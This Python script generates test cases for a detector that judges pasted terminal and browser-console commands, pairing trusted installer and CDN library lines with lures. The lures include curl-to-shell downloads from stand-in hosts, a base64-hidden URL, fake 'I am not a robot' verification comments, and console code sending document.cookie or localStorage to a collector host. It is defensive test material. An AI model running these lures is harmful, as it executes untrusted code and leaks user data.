"""Writes tests/data/cases/design17.jsonl: the two classes of texts the product flagged BY DESIGN
on pages that are not the tool's own, re-weighed against every lure set (2026-12-07, helper
"design17"), written here from general knowledge of such pages (no blind set, lure collection
or other detector's fixtures read), each clearing beside the lures that try to abuse it.

    python tests/data/cases/make_design17.py

Deterministic. Real hosts stand for the tools' own hosts and for the kinds of pages real
commands are copied from (a forge README, a Q&A answer, a blog, a CI document); invented hosts
are reserved names (*.test, *.example, *.invalid, documentation addresses). Each line is
{id, text, expect, technique, platform, source, target}.

Cleared here, by technique:

- `known-toolchain-quoted`: another project's README, a tutorial, a Q&A answer, a course page or
  a CI document telling people to install a toolchain manager or tool first (`curl
  https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh`, `curl
  --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev | sh`): the address is the tool's own
  documented installer, on its own host or in its own repository (resources/trust.yaml
  `installers`, reviewed one by one with the tool's own page as `source`), so whoever quotes
  it runs the tool's own script. Information, from any page. Lures that try to abuse it: the
  same path under another account or a look-alike host (raw.githubusercontent.com.<x>.test,
  <tool>-install.test, a letter off), the trusted address in a user part
  (https://sh.starkup.dev@host.test) or in a comment after the real download, the trusted
  script chained with a stranger's, plain HTTP, the Run box from a page (a command there from a
  page is a block, issue 9), and a lure's words or padding beside it.
- `pipe-shape-named`: a detection note, a policy or a review quoting the shape `curl | sh`
  (`wget | bash`, `curl ... | sh`) with nothing for the downloader to fetch and nothing after the
  shell: no address, no variable, no file, so nothing is downloaded or run (PG-NIX-PIPE-TO-SHELL
  asks the downloader for something to fetch, or the shell for a file to run). Lures that try
  to abuse it: any address, host, variable or decoded address given to the downloader, a file
  or an address given to the shell, the same sentence with a real command beside it.
- `installer-beside-this-computer`: a known installer quoted with an address of this computer
  itself beside it (an install guide's "then open http://localhost:8000", a dashboard on
  127.0.0.1, [::1]): nothing is downloaded from anyone there, so it no longer keeps the
  installer from being recognised. Lures that try to abuse it: a stranger's download beside the
  installer, names that only start like this computer's (localhost.<domain>, 127.0.0.1.<domain>),
  a user part before another host, a lure's words beside it.
- `console-library-load`: a Q&A answer, a blog or docs loading a well-known JavaScript library
  into the page from the console (jQuery from code.jquery.com, moment.js or lodash from cdnjs's
  /ajax/libs/, d3 from d3js.org, Plotly, Bootstrap, Google's and Microsoft's hosted libraries;
  trust.yaml `library_cdns`): a library's release does nothing by being loaded, so the snippet is
  information instead of a block (a script tag, $.getScript, import()). Lures that try to abuse
  it: the same line on a check, claim or bonus page, a look-alike of the CDN
  (code.jquery.com.<x>.test, cdnjs-cloudflare.<x>), npm's and forges' CDNs (unpkg, jsDelivr,
  esm.sh: anyone's package), a dot segment climbing out of /ajax/libs/, a user part, another
  port, plain HTTP, and the library loaded beside code that sends cookies or storage away, a
  stranger's script, or fetched text run through eval.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("design17.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
CONSOLE = "browser_console"
UNKNOWN = "unknown"
OTHER = "other"

# -- (a) another page's curl | sh of a known toolchain's own installer ----------------------------

# the pages such a line is copied from: other projects' READMEs on three forges, a Q&A answer, a
# blog tutorial, a course page, a CI document, an internal wiki, a mailing-list archive
PAGES = [
    "https://github.com/quillmere/proof-notes#prerequisites",
    "https://gitlab.com/harrowfield/zk-circuits/-/blob/main/README.md",
    "https://codeberg.org/tarnwick/dotfiles",
    "https://stackoverflow.com/questions/77102331/how-do-i-install-the-toolchain-on-ubuntu",
    "https://dev.to/brindle/setting-up-a-new-dev-box-in-2026-3f1c",
    "https://www.harrowfield.example/blog/2026/11/getting-started",
    "https://course.quillmere.example/week-1/setup",
    "https://github.com/tarnwick/ci-templates/blob/main/docs/runners.md",
    "https://wiki.brindlecorp.example/engineering/onboarding/toolchains",
    "https://unix.stackexchange.com/questions/781234/install-script-behind-a-proxy",
    "https://news.ycombinator.com/item?id=42880011",
    "https://medium.com/@quillmere/my-2026-workstation-setup-7ab1",
]
# tool -> its documented command lines (several spellings each)
TOOLS: dict[str, list[str]] = {
    "elan": [
        "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh",
        "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh -s -- -y --default-toolchain none",
        "curl https://elan.lean-lang.org/elan-init.sh -sSf | sh",
        "# Install elan (the Lean version manager)\ncurl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh\nlake exe cache get",
        "wget -qO- https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh | sh -s -- -y",
    ],
    "starkup": [
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev | sh",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev | sh\nscarb --version",
    ],
    "suiup": [
        "curl -sSfL https://raw.githubusercontent.com/MystenLabs/suiup/main/install.sh | sh\nsuiup install sui@testnet",
        "curl -sSfL https://raw.githubusercontent.com/MystenLabs/suiup/main/install.sh | sh",
    ],
    "aptos": [
        'curl -fsSL "https://aptos.dev/scripts/install_cli.sh" | sh',
        'wget -qO- "https://aptos.dev/scripts/install_cli.sh" | sh -s -- --cli-version 7.9.0',
        'curl -fsSL "https://aptos.dev/scripts/install_cli.py" | python3',
    ],
    "fuelup": [
        "curl -fsSL https://install.fuel.network/ | sh",
        "curl -fsSL https://install.fuel.network/ | sh -s -- --no-modify-path",
    ],
    "risczero": ["curl -L https://risczero.com/install | bash\nrzup install"],
    "sp1": ["curl -L https://sp1up.succinct.xyz | bash\nsp1up"],
    "noirup": [
        "curl -L https://raw.githubusercontent.com/noir-lang/noirup/refs/heads/main/install | bash\nnoirup",
    ],
    "symfony": ["curl -sS https://get.symfony.com/cli/installer | bash"],
    "composer": [
        "curl -sS https://getcomposer.org/installer | php -- --install-dir=/usr/local/bin --filename=composer",
        "curl -sS https://getcomposer.org/installer | php",
    ],
    "oh-my-bash": [
        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmybash/oh-my-bash/master/tools/install.sh)"',
    ],
    "zinit": [
        'bash -c "$(curl --fail --show-error --silent --location https://raw.githubusercontent.com/zdharma-continuum/zinit/HEAD/scripts/install.sh)"',
    ],
    "lunarvim": [
        "LV_BRANCH='release-1.4/neovim-0.9' bash <(curl -s https://raw.githubusercontent.com/LunarVim/LunarVim/release-1.4/neovim-0.9/utils/installer/install.sh)",
    ],
    "n": [
        "curl -fsSL https://raw.githubusercontent.com/tj/n/master/bin/n | bash -s lts",
        "curl -L https://raw.githubusercontent.com/tj/n/master/bin/n -o n\nbash n lts",
    ],
    "gvm": [
        "bash < <(curl -s -S -L https://raw.githubusercontent.com/moovweb/gvm/master/binscripts/gvm-installer)",
    ],
    "rbenv": [
        "curl -fsSL https://github.com/rbenv/rbenv-installer/raw/HEAD/bin/rbenv-installer | bash",
        "curl -fsSL https://raw.githubusercontent.com/rbenv/rbenv-installer/main/bin/rbenv-installer | bash",
    ],
    "perlbrew": ["\\curl -L https://install.perlbrew.pl | bash"],
    "cpanm": ["curl -L https://cpanmin.us | perl - --sudo App::cpanminus"],
    "babashka": [
        "bash < <(curl -s https://raw.githubusercontent.com/babashka/babashka/master/install)",
    ],
    "clojure": [
        "curl -L -O https://github.com/clojure/brew-install/releases/latest/download/linux-install.sh\nchmod +x linux-install.sh\nsudo ./linux-install.sh",
    ],
    "choosenim": ["curl https://nim-lang.org/choosenim/init.sh -sSf | sh"],
    "crystal": ["curl -fsSL https://crystal-lang.org/install.sh | sudo bash"],
    "fvm": ["curl -fsSL https://fvm.app/install.sh | bash"],
    "wasmedge": [
        "curl -sSf https://raw.githubusercontent.com/WasmEdge/WasmEdge/master/utils/install_v2.sh | bash",
    ],
    "dapr": [
        "wget -q https://raw.githubusercontent.com/dapr/cli/master/install/install.sh -O - | /bin/bash",
    ],
    "linkerd": [
        "curl --proto '=https' --tlsv1.2 -sSfL https://run.linkerd.io/install-edge | sh",
    ],
    "rke2": ["curl -sfL https://get.rke2.io | sudo sh -"],
    "okteto": ["curl https://get.okteto.com -sSfL | sh"],
    "micromamba": ['"${SHELL}" <(curl -L micro.mamba.pm/install.sh)'],
    "spacevim": ["curl -sLf https://spacevim.org/install.sh | bash"],
    "goreleaser": ["curl -sfL https://goreleaser.com/static/run | bash -s -- release --clean"],
    "yarn": ["curl -o- -L https://yarnpkg.com/install.sh | bash"],
    "atlas": ["curl -sSf https://atlasgo.sh | sh"],
    "kustomize": [
        'curl -s "https://raw.githubusercontent.com/kubernetes-sigs/kustomize/master/hack/install_kustomize.sh" | bash',
    ],
    "kubescape": [
        "curl -s https://raw.githubusercontent.com/kubescape/kubescape/master/install.sh | /bin/bash",
    ],
    "arduino-cli": [
        "curl -fsSL https://raw.githubusercontent.com/arduino/arduino-cli/master/install.sh | sh",
    ],
    "platformio": [
        "curl -fsSL -o get-platformio.py https://raw.githubusercontent.com/platformio/platformio-core-installer/master/get-platformio.py\npython3 get-platformio.py",
    ],
    "avalanche": [
        "curl -sSfL https://raw.githubusercontent.com/ava-labs/avalanche-cli/main/scripts/install.sh | sh -s",
    ],
    "pivpn": ["curl -L https://install.pivpn.io | bash"],
    "umbrel": ["curl -L https://umbrel.sh | bash"],
    "yunohost": ["curl https://install.yunohost.org | bash"],
    "dokku": [
        "wget -NP . https://dokku.com/install/v0.35.12/bootstrap.sh\nsudo DOKKU_TAG=v0.35.12 bash bootstrap.sh",
    ],
    "cloudron": [
        "wget https://cloudron.io/cloudron-setup\nchmod +x ./cloudron-setup\n./cloudron-setup",
    ],
    "kind": [
        "curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.26.0/kind-linux-amd64\nchmod +x ./kind\nsudo mv ./kind /usr/local/bin/kind",
    ],
    "minikube": [
        "curl -LO https://storage.googleapis.com/minikube/releases/latest/minikube-linux-amd64\nsudo install minikube-linux-amd64 /usr/local/bin/minikube",
    ],
    "kubebuilder": [
        'curl -L -o kubebuilder "https://go.kubebuilder.io/dl/latest/$(go env GOOS)/$(go env GOARCH)"\nchmod +x kubebuilder && sudo mv kubebuilder /usr/local/bin/',
    ],
    "croc": ["curl https://getcroc.schollz.com | bash"],
    "wazuh": [
        "curl -sO https://packages.wazuh.com/4.12/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
    ],
    "git-lfs": [
        "curl -s https://packagecloud.io/install/repositories/github/git-lfs/script.deb.sh | sudo bash",
    ],
    "earlier-homes": [
        "curl -o- https://raw.githubusercontent.com/creationix/nvm/v0.33.11/install.sh | bash",
        "curl -s https://raw.githubusercontent.com/rancher/k3d/main/install.sh | bash",
        "curl -sSL https://raw.githubusercontent.com/python-poetry/poetry/master/get-poetry.py | python -",
        "curl https://raw.githubusercontent.com/rust-lang/rustup/master/rustup-init.sh -sSf | sh -s -- -y",
        "curl -fsSL https://raw.githubusercontent.com/nodesource/distributions/master/deb/setup_18.x | sudo -E bash -",
        "wget -NP . https://raw.githubusercontent.com/dokku/dokku/v0.34.8/bootstrap.sh\nsudo DOKKU_TAG=v0.34.8 bash bootstrap.sh",
    ],
    "wireguard-install": [
        "curl -O https://raw.githubusercontent.com/angristan/wireguard-install/master/wireguard-install.sh\nchmod +x wireguard-install.sh\n./wireguard-install.sh",
        "wget https://raw.githubusercontent.com/Nyr/openvpn-install/master/openvpn-install.sh -O openvpn-install.sh && bash openvpn-install.sh",
    ],
}

# Lures that try to abuse the trust list's knowing these: look-alike hosts, other accounts,
# user parts, a trusted address only in a comment, a chain with a stranger's download, plain
# HTTP, and lure words beside the real address; from fake docs and check pages (reserved names)
LURE_PAGES = [
    "https://docs.lean-setup.test/install",
    "https://www.starknet-devtools.example/quickstart",
    "https://verify-session.check-gate.example/step2",
    "https://download.rustdesk-tools.invalid/linux",
]
ABUSES = [
    # the same path under another account of the forge
    "curl https://raw.githubusercontent.com/leanprover-tools/elan/master/elan-init.sh -sSf | sh",
    "curl https://raw.githubusercontent.com/leanpr0ver/elan/master/elan-init.sh -sSf | sh",
    "curl -sSfL https://raw.githubusercontent.com/MystenLabs-dev/suiup/main/install.sh | sh",
    "curl -s https://raw.githubusercontent.com/kubescape-io/kubescape/master/install.sh | /bin/bash",
    # the vendor's host inside someone else's, a look-alike, a typo
    "curl https://raw.githubusercontent.com.leanprover.test/leanprover/elan/master/elan-init.sh -sSf | sh",
    "curl https://elan-lean-lang.test/elan-init.sh -sSf | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev.install-cdn.test | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkups.dev | sh",
    "curl -fsSL https://install-perlbrew.test | bash",
    "curl -sS https://get-symfony.test/cli/installer | bash",
    "curl -fsSL https://crystal-lang-install.example/install.sh | sudo bash",
    "curl -sfL https://get.rke2.io.mirror-cdn.test | sudo sh -",
    # the trusted address as a user part, in a comment, or beside a stranger's download
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev@cdn.umbra-stage.test/i | sh",
    "curl -fsSL https://cdn.umbra-stage.test/i | sh # https://sh.starkup.dev",
    "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh && curl -fsSL https://cdn.umbra-stage.test/post.sh | sh",
    "curl -L https://risczero.com/install | bash; wget -qO- https://198.51.100.23/r.sh | bash",
    # an earlier home's name under another account, a look-alike of the package host
    "curl -o- https://raw.githubusercontent.com/creationix-dev/nvm/v0.33.11/install.sh | bash",
    "curl -s https://packagecloud.io/install/repositories/githubb/git-lfs/script.deb.sh | sudo bash",
    "curl https://getcroc.schollz.com.cdn-relay.test | bash",
    "curl -sO https://packages-wazuh.cdn-relay.test/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
    # plain HTTP to the tool's host (anyone on the path can swap the script)
    "curl -L http://install.perlbrew.pl | bash",
    "curl http://get.okteto.com -sSfL | sh",
    # lure words and padding beside the real address
    "curl -sSfL https://raw.githubusercontent.com/MystenLabs/suiup/main/install.sh | sh -s -- --server https://cdn.umbra-stage.test/w",
]
RUN_BOX = [
    'powershell -c "iwr https://aptos.dev/scripts/install_cli.py -useb | Select-Object -ExpandProperty Content | python3"',
    "cmd /c curl -sS https://getcomposer.org/installer -o %TEMP%\\c.php && php %TEMP%\\c.php",
]
LURE_WORDS = [
    "curl -fsSL https://cdn.umbra-stage.test/verify.sh | bash  # I am not a robot - Verification ID: 4821",
    "curl -fsSL https://cdn.umbra-stage.test/fix | bash # Überprüfung abgeschlossen - Code 7731",
    "curl -fsSL https://cdn.umbra-stage.test/fix | bash # Vérification humaine terminée - code 2290",
    "curl -fsSL https://cdn.umbra-stage.test/fix | bash # Verificación completada - código 5512",
]


def quoted_toolchains(book: Book) -> None:
    tech = "known-toolchain-quoted"
    n = 0
    for lines in TOOLS.values():
        for line in lines:
            for k in range(3):  # three kinds of page each, turning through them
                page = PAGES[(n + 5 * k) % len(PAGES)]
                target = (TERMINAL, UNKNOWN, TERMINAL)[k]
                book.add(tech, line, "not_flagged", "any", target, page)
            n += 1
    lure = "toolchain-abused"
    for i, text in enumerate(ABUSES):
        for j in range(2):
            page = LURE_PAGES[(i + j) % len(LURE_PAGES)]
            book.add(lure, text, "flagged", "any", TERMINAL, page)
        book.add(lure, text, "flagged", "any", TERMINAL, PAGES[i % len(PAGES)])
    for text in RUN_BOX:
        for page in LURE_PAGES[:2] + PAGES[:2]:
            # a known installer in the Run box from a page is a warning (engine: official)
            book.add(lure, text, "flagged", "windows", RUN, page)
    for i, text in enumerate(LURE_WORDS):
        book.add(lure, text, "flagged", "any", TERMINAL, PAGES[i % len(PAGES)])
        book.add(lure, text, "malicious", "any", TERMINAL, LURE_PAGES[i % len(LURE_PAGES)])


# -- (a) the pipe's shape named in prose, with nothing to fetch -----------------------------------

NAMED_PIPES = [
    "Detection tuning: we no longer alert on 'curl | sh' from build hosts when the address is the project's own; unknown hosts still alert.",
    "Policy 4.2: piping `curl | bash` is not allowed on production servers.",
    "Never run curl | sh.",
    "Why 'wget | sh' installers worry reviewers: nobody reads the script before it runs.",
    "We replaced every `curl ... | sh` in the Dockerfiles with pinned packages.",
    "The audit found three `curl | sudo bash` lines in the runbooks.",
    "Avoid the curl | bash pattern in CI; download, check the hash, then run.",
    "Regel: kein `curl | sh` auf Servern ohne Prüfsumme.",
    "Règle : pas de « curl | sh » sur les postes de production.",
    "Norma interna: prohibido usar 'wget | bash' en los servidores.",
    "Q: Is `curl | sh` really worse than downloading a .deb? A: it depends on who serves it.",
    "Lint rule SC-curl-pipe flags `curl | sh` and `wget ... | bash` in shell scripts.",
]
NAMED_PAGES = [
    "https://intel.soc-team.example/weekly/2026-w49",
    "https://wiki.brindlecorp.example/security/shell-policy",
    None,
    "https://www.harrowfield.example/blog/2026/11/curl-pipe-sh",
]
NAMED_LOOKALIKES = [
    ("Never run curl https://cdn.umbra-stage.test/i | sh.", "flagged"),
    ("Detection note: we saw 'curl cdn.umbra-stage.test/i | sh' on two hosts.", "flagged"),
    ("Run this: curl $U | sh", "flagged"),
    ("curl | sh /tmp/.x", "flagged"),
    ("curl | sh https://cdn.umbra-stage.test/i", "flagged"),
    ("curl \"$(echo aHR0cHM6Ly9jZG4udW1icmEtc3RhZ2UudGVzdC9p | base64 -d)\" | sh", "flagged"),
    ("Policy says never `curl | sh`, but run this one: curl -fsSL https://cdn.umbra-stage.test/i | sh", "flagged"),
    ("wget -qO- 203.0.113.9/i | sh", "flagged"),
    ("Verify you are human: curl | bash ~/.cache/v.sh", "flagged"),
    ("curl -s cdn.umbra-stage.test/i|sh", "flagged"),
]  # fmt: skip


def named_pipes(book: Book) -> None:
    tech = "pipe-shape-named"
    for i, text in enumerate(NAMED_PIPES):
        book.add(tech, text, "not_flagged", "any", UNKNOWN, NAMED_PAGES[i % len(NAMED_PAGES)])
        book.add(tech, text, "not_flagged", "any", OTHER, NAMED_PAGES[(i + 1) % len(NAMED_PAGES)])
    for text, expect in NAMED_LOOKALIKES:
        book.add("pipe-shape-lookalike", text, expect, "linux", TERMINAL)
        book.add("pipe-shape-lookalike", text, expect, "linux", UNKNOWN, NAMED_PAGES[0])


# -- (a) a known installer with an address of this computer beside it ----------------------------

BESIDE_LOCAL = [
    "## Install\n\n```sh\ncurl -fsSL https://get.docker.com | sh\ndocker compose up -d\n```\n\nThen open http://localhost:8000.",
    "curl -fsSL https://get.docker.com | sh\ndocker run -d -p 9000:9000 portainer/portainer-ce\n# then browse to http://localhost:9000",
    "curl -fsSL https://ollama.com/install.sh | sh\nollama serve &\ncurl http://localhost:11434/api/tags",
    "curl -fsSL https://ollama.com/install.sh | sh\n# the API listens on http://127.0.0.1:11434",
    "curl -sfL https://get.k3s.io | sh -\n# the API server answers on https://127.0.0.1:6443",
    "curl -fsSL https://deno.land/install.sh | sh\ndeno run -A npm:vite\n# open http://localhost:5173",
    "curl -LsSf https://astral.sh/uv/install.sh | sh\nuv run jupyter lab  # http://localhost:8888/lab",
    "curl -fsSL https://bun.sh/install | bash\nbun run dev  # serves http://localhost:3000",
    "curl -sSL https://install.python-poetry.org | python3 -\npoetry run uvicorn app:app  # http://127.0.0.1:8000/docs",
    "curl -L https://install.pivpn.io | bash\n# admin page: http://[::1]:8080/",
    "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh\n# docs served locally at http://localhost:8000/docs",
    "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh\n# check http://localhost:2375/version only if you enabled the TCP socket",
]
BESIDE_PAGES = [
    "https://github.com/quillmere/shop/blob/main/docs/install.md",
    "https://wiki.brindlecorp.example/engineering/local-dev",
    "https://dev.to/tarnwick/local-llm-in-ten-minutes-5c2a",
    "https://stackoverflow.com/questions/78100112/where-does-the-dashboard-listen",
]
BESIDE_LURES = [
    ("curl -fsSL https://get.docker.com | sh && curl -s https://cdn.umbra-stage.test/post.sh | sh\n# open http://localhost:8000", "flagged"),
    ("curl -fsSL https://get.docker.com | sh; curl -s http://localhost.cdn-relay.test/x | sh", "flagged"),
    ("curl -fsSL https://ollama.com/install.sh | sh; curl -s http://127.0.0.1.cdn-relay.test/x | sh", "flagged"),
    ("curl -fsSL https://get.docker.com | sh; curl -s http://localhost@cdn.umbra-stage.test/x | sh", "flagged"),
    ("curl -fsSL https://get.docker.com | sh; wget -qO- http://203.0.113.40:8000/x | sh  # http://localhost:8000", "flagged"),
    ("curl -fsSL https://get.docker.com | sh   # open http://localhost:8000 - I am not a robot, verification ID 5521", "malicious"),
]  # fmt: skip


def beside_local(book: Book) -> None:
    tech = "installer-beside-this-computer"
    for i, text in enumerate(BESIDE_LOCAL):
        for j, target in enumerate((TERMINAL, UNKNOWN)):
            book.add(tech, text, "not_flagged", "any", target, BESIDE_PAGES[(i + j) % 4])
    for i, (text, expect) in enumerate(BESIDE_LURES):
        book.add("installer-beside-lookalike", text, expect, "linux", TERMINAL, BESIDE_PAGES[i % 4])
        book.add("installer-beside-lookalike", text, expect, "linux", TERMINAL, LURE_PAGES[i % 4])


# -- (b) a well-known library loaded into the page from the console -------------------------------

LIBRARIES = [
    "https://code.jquery.com/jquery-3.7.1.min.js",
    "https://code.jquery.com/ui/1.13.3/jquery-ui.min.js",
    "https://cdnjs.cloudflare.com/ajax/libs/moment.js/2.30.1/moment.min.js",
    "https://cdnjs.cloudflare.com/ajax/libs/lodash.js/4.17.21/lodash.min.js",
    "https://cdnjs.cloudflare.com/ajax/libs/axios/1.7.7/axios.min.js",
    "https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js",
    "https://ajax.aspnetcdn.com/ajax/jQuery/jquery-3.7.0.min.js",
    "https://d3js.org/d3.v7.min.js",
    "https://cdn.plot.ly/plotly-2.35.2.min.js",
    "https://stackpath.bootstrapcdn.com/bootstrap/4.5.2/js/bootstrap.min.js",
]
LOADERS = [
    "var s=document.createElement('script');s.src='{u}';document.head.appendChild(s)",
    "const script = document.createElement('script');\nscript.src = '{u}';\ndocument.body.appendChild(script);",
    "$.getScript('{u}')",
    "(function(){{var el=document.createElement('script');el.src='{u}';el.onload=function(){{console.log('loaded')}};document.head.appendChild(el)}})()",
]
LIBRARY_PAGES = [
    "https://stackoverflow.com/questions/7474354/include-jquery-in-the-javascript-console",
    "https://superuser.com/questions/1802231/load-a-library-into-devtools",
    "https://www.harrowfield.example/blog/2026/10/javascript-charts-from-devtools",
    "https://dev.to/quillmere/moment-in-the-console-4b1a",
    None,
]
LIBRARY_LURE_PAGES = [
    "https://www.robux-bonus-wheel.test/verify",
    "https://claim.airdrop-portal.example/step2",
    "https://verify-human.check-gate.example/console",
]
LIBRARY_LOOKALIKES = [
    "var s=document.createElement('script');s.src='https://code.jquery.com.cdn-relay.test/jquery-3.7.1.min.js';document.head.appendChild(s)",
    "var s=document.createElement('script');s.src='https://cdnjs-cloudflare.cdn-relay.test/ajax/libs/moment.js/2.30.1/moment.min.js';document.head.appendChild(s)",
    "var s=document.createElement('script');s.src='https://unpkg.com/jquery@3.7.1/dist/jquery.min.js';document.head.appendChild(s)",
    "var s=document.createElement('script');s.src='https://cdn.jsdelivr.net/npm/verify-helper@1.0.2/dist/v.min.js';document.head.appendChild(s)",
    "import('https://esm.sh/claim-bonus@1.0.0')",
    "$.getScript('https://cdnjs.cloudflare.com/ajax/libs/../../x/evil.js')",
    "$.getScript('https://code.jquery.com@cdn-relay.test/jquery.min.js')",
    "$.getScript('https://code.jquery.com:8443/jquery.min.js')",
    "$.getScript('http://code.jquery.com/jquery-3.7.1.min.js')",
    "var s=document.createElement('script');s.src='https://code.jquery.com/jquery-3.7.1.min.js';document.head.appendChild(s);s.onload=function(){$.post('https://collect.cdn-relay.test/c',{c:document.cookie})}",
    "$.getScript('https://code.jquery.com/jquery-3.7.1.min.js');$.getScript('https://cdn.cdn-relay.test/x.js')",
    "fetch('https://cdnjs.cloudflare.com/ajax/libs/lodash.js/4.17.21/lodash.min.js').then(r=>r.text()).then(eval)",
    "$.getScript('https://code.jquery.com/jquery-3.7.1.min.js', function(){ new Image().src='https://collect.cdn-relay.test/i?d='+btoa(JSON.stringify(localStorage)) })",
]


def console_libraries(book: Book) -> None:
    tech = "console-library-load"
    n = 0
    for url in LIBRARIES:
        for loader in LOADERS:
            page = LIBRARY_PAGES[n % len(LIBRARY_PAGES)]
            book.add(tech, loader.format(u=url), "not_flagged", "browser", CONSOLE, page)
            n += 1
        book.add(
            tech, LOADERS[0].format(u=url), "not_flagged", "browser", UNKNOWN, LIBRARY_PAGES[0]
        )
    for i, url in enumerate(LIBRARIES[:6]):
        page = LIBRARY_LURE_PAGES[i % len(LIBRARY_LURE_PAGES)]
        book.add(
            "console-library-abused",
            LOADERS[0].format(u=url),
            "malicious",
            "browser",
            CONSOLE,
            page,
        )
    for i, text in enumerate(LIBRARY_LOOKALIKES):
        book.add(
            "console-library-abused", text, "malicious", "browser", CONSOLE, LIBRARY_PAGES[i % 4]
        )
        book.add("console-library-abused", text, "flagged", "browser", CONSOLE, None)
        book.add(
            "console-library-abused",
            text,
            "malicious",
            "browser",
            CONSOLE,
            LIBRARY_LURE_PAGES[i % 3],
        )


def build() -> list[dict[str, str]]:
    book = Book("d17")
    quoted_toolchains(book)
    named_pipes(book)
    beside_local(book)
    console_libraries(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
